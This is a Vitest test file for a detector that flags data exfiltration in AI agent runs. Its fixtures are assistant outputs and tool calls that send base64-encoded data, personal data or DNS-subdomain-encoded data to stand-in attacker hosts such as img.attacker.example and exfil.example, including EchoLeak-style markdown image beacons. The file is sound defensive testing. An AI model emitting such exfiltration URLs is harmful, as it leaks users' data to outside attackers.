import { describe, expect, it } from 'vitest';
import { emptyBaseline } from '../baseline.js';
import { resolveDetectionConfig } from '../config.js';
import { detectRun } from '../detect-run.js';
import { llmStep, makeRun, toolStep } from '../steps.fixtures.js';
import { outboundDataUrl } from './outbound-data-url.js';

const say = (text: string) =>
  llmStep({ outputMessages: JSON.stringify([{ role: 'assistant', parts: [{ type: 'text', content: text }] }]) });
const detect = (steps: Parameters<typeof makeRun>[0], input = '', config = resolveDetectionConfig()) =>
  detectRun(makeRun(steps, { runInput: input }), emptyBaseline(), config, { rules: [outboundDataUrl] });

describe('outbound.data_url', () => {
  it('flags an EchoLeak-style markdown image carrying data to an outside host as high', () => {
    const [f] = detect([
      say('Done! ![status](https://img.attacker.example/p.png?d=U2FsZXMgUTMgZm9yZWNhc3Q6IDQuMk0gRVVS)'),
    ]);
    expect(f?.severity).toBe('high');
    expect(f?.details?.host).toBe('img.attacker.example');
    expect(f?.evidence.slice(f.evidenceStart, f.evidenceEnd)).toMatch(/^https:\/\/img\.attacker\.example\/p\.png\?d=/);
  });

  it('also sees HTML images and reference-style markdown images', () => {
    const html = detect([say('<img width=1 src="https://t.evil.example/x?u=ZXhmaWx0cmF0ZWQgZGF0YSAxMjM0NQ">')]);
    const ref = detect([say('![logo][l]\n\n[l]: https://cdn.evil.example/l.gif?q=c2VjcmV0IHBsYW5zIDIwMjU5OTk')]);
    expect(html.map((f) => f.severity)).toEqual(['high']);
    expect(ref.map((f) => f.severity)).toEqual(['high']);
  });

  it('rates personal data in a URL query of a tool call as high', () => {
    const [f] = detect([
      toolStep('fetch_url', 'read', { url: 'https://hooks.evil.example/c?who=[email:7f3a9c1b]&n=1' }),
    ]);
    expect(f?.severity).toBe('high');
    expect(f?.reason).toContain('personal data');
  });

  it('flags data hidden in subdomains (DNS exfiltration)', () => {
    const [f] = detect([
      toolStep('dns_lookup', 'read', { host: 'https://4a6f686e20446f65206f776573.x.exfil.example/' }),
    ]);
    expect(f?.severity).toBe('medium');
    expect(f?.reason).toContain('subdomain');
  });

  it('leaves ordinary links, search queries and hosts the user named alone', () => {
    const steps = [
      say('See [the docs](https://docs.example.com/guide/getting-started?lang=en) for details.'),
      toolStep('web_search', 'read', {
        url: 'https://search.example.com/?q=how+to+rotate+credentials+safely+in+production',
      }),
      say('![chart](https://charts.partner.example/c.png?id=a8f3k2m9x7q1w5e4r6t)'),
      toolStep('http_get', 'read', { url: 'https://my-company-staging-environment.example.com/health' }),
    ];
    expect(detect(steps, 'Put the chart from https://charts.partner.example in the report')).toEqual([]);
  });

  it('honours trusted hosts from the config', () => {
    const cfg = resolveDetectionConfig({ dataUrl: { trustedHosts: ['*.imgcdn.example'] } });
    expect(detect([say('![a](https://eu.imgcdn.example/a.png?sig=Zk9vQmFyMTIzNDU2Nzg5MA)')], '', cfg)).toEqual([]);
  });
});
